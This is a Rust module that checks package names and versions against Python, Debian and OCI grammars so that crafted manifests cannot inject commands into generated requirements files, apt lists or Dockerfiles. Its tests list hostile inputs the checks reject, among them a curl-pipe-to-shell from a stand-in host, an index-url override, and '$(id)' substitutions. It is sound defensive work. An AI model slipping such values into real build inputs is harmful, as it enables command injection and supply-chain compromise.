//! The grammars of what exports copy from a manifest into files that other
//! tools execute or parse (requirements files, apt lists, Dockerfiles): a
//! manifest may be crafted, so a name or version is printed only when it is
//! one by its format's own rules. None of these grammars admits whitespace,
//! a quote, `$`, `\`, `;`, `&`, `|`, `#` or a leading `-`: a valid value can
//! neither start an option nor end a line or a shell word.

use std::sync::LazyLock;

use regex::Regex;

/// Compiles an anchored pattern; a pattern that does not compile (a bug,
/// caught by the tests) matches nothing, so it refuses rather than admits.
fn anchored(pattern: &str) -> Option<Regex> {
    Regex::new(&format!("^(?:{pattern})$")).ok()
}

fn matches(grammar: &LazyLock<Option<Regex>>, text: &str) -> bool {
    grammar.as_ref().is_some_and(|regex| regex.is_match(text))
}

/// PEP 508 distribution names.
static PYTHON_NAME: LazyLock<Option<Regex>> = LazyLock::new(|| anchored(r"(?i)[A-Z0-9]|[A-Z0-9][A-Z0-9._-]*[A-Z0-9]"));

/// PEP 440 versions, as `packaging.version.VERSION_PATTERN` spells them
/// (any spelling it normalises; no surrounding whitespace).
static PYTHON_VERSION: LazyLock<Option<Regex>> = LazyLock::new(|| {
    anchored(concat!(
        r"(?i)v?",
        r"(?:[0-9]+!)?",                                               // epoch
        r"[0-9]+(?:\.[0-9]+)*",                                        // release
        r"(?:[-_.]?(?:a|b|c|rc|alpha|beta|pre|preview)[-_.]?[0-9]*)?", // pre-release
        r"(?:-[0-9]+|[-_.]?(?:post|rev|r)[-_.]?[0-9]*)?",              // post-release
        r"(?:[-_.]?dev[-_.]?[0-9]*)?",                                 // development release
        r"(?:\+[a-z0-9]+(?:[-_.][a-z0-9]+)*)?",                        // local label
    ))
});

/// Debian package names (Policy 5.6.1): lower case letters, digits, `+`,
/// `-`, `.`; at least two characters, starting with a letter or digit.
static DEBIAN_NAME: LazyLock<Option<Regex>> = LazyLock::new(|| anchored(r"[a-z0-9][a-z0-9+.-]+"));

/// Debian versions (Policy 5.6.12): `[epoch:]upstream[-revision]`, the
/// upstream part starting with a digit; letters, digits, `.`, `+`, `~`, and
/// `-` only between the parts' characters.
static DEBIAN_VERSION: LazyLock<Option<Regex>> =
    LazyLock::new(|| anchored(r"(?:[0-9]+:)?[0-9][A-Za-z0-9.+~]*(?:-[A-Za-z0-9.+~]+)*"));

/// An image repository path component (the OCI distribution grammar).
static IMAGE_NAME: LazyLock<Option<Regex>> = LazyLock::new(|| anchored(r"[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*"));

/// An image tag (the OCI distribution grammar).
static IMAGE_TAG: LazyLock<Option<Regex>> = LazyLock::new(|| anchored(r"[A-Za-z0-9_][A-Za-z0-9_.-]{0,127}"));

pub fn is_python_name(text: &str) -> bool {
    matches(&PYTHON_NAME, text)
}

pub fn is_python_version(text: &str) -> bool {
    matches(&PYTHON_VERSION, text)
}

pub fn is_debian_name(text: &str) -> bool {
    matches(&DEBIAN_NAME, text)
}

pub fn is_debian_version(text: &str) -> bool {
    matches(&DEBIAN_VERSION, text)
}

pub fn is_image_name(text: &str) -> bool {
    matches(&IMAGE_NAME, text)
}

pub fn is_image_tag(text: &str) -> bool {
    matches(&IMAGE_TAG, text)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What every grammar must refuse: a value that would end a line, start
    /// an option, or do something in a shell or a Dockerfile.
    const HOSTILE: [&str; 12] = [
        "",
        "1.0\n--index-url http://evil.invalid/simple",
        "1.0 && curl http://evil.invalid/x|sh #",
        "--index-url",
        "-e",
        "1.0;id",
        "1.0`id`",
        "$(id)",
        "1.0 ",
        "1.0\\",
        "1.0#x",
        "'1.0'",
    ];

    #[test]
    fn real_names_and_versions_pass() {
        for version in ["1.16.0", "2.0.0rc1", "1.0.post1", "1.0.dev3", "2!1.0", "1.0+cpu", "v1.2", "1.0-1", "2024.1b2"]
        {
            assert!(is_python_version(version), "{version}");
        }
        for name in ["six", "PyYAML", "zope.interface", "typing_extensions", "a"] {
            assert!(is_python_name(name), "{name}");
        }
        for version in ["2.36-9+deb12u14", "1:2.39.2-1.1", "0.5.12-2", "9.1.0~rc2+dfsg-1", "3.11.2"] {
            assert!(is_debian_version(version), "{version}");
        }
        for name in ["libc6", "g++", "libstdc++6", "python3.11-venv", "x11-common"] {
            assert!(is_debian_name(name), "{name}");
        }
        assert!(is_image_name("debian") && is_image_name("opensuse-leap") && is_image_tag("22.04"));
    }

    #[test]
    fn hostile_values_fail_every_grammar() {
        for text in HOSTILE {
            for (grammar, check) in [
                ("python name", is_python_name as fn(&str) -> bool),
                ("python version", is_python_version),
                ("debian name", is_debian_name),
                ("debian version", is_debian_version),
                ("image name", is_image_name),
                ("image tag", is_image_tag),
            ] {
                assert!(!check(text), "{grammar} admitted {text:?}");
            }
        }
        assert!(!is_debian_version("1.0-"), "a revision is not empty");
        assert!(!is_debian_version("abc"), "upstream starts with a digit");
        assert!(!is_python_version("1.0-beta-x"));
        assert!(!is_debian_name("A"), "lower case, two characters");
    }
}
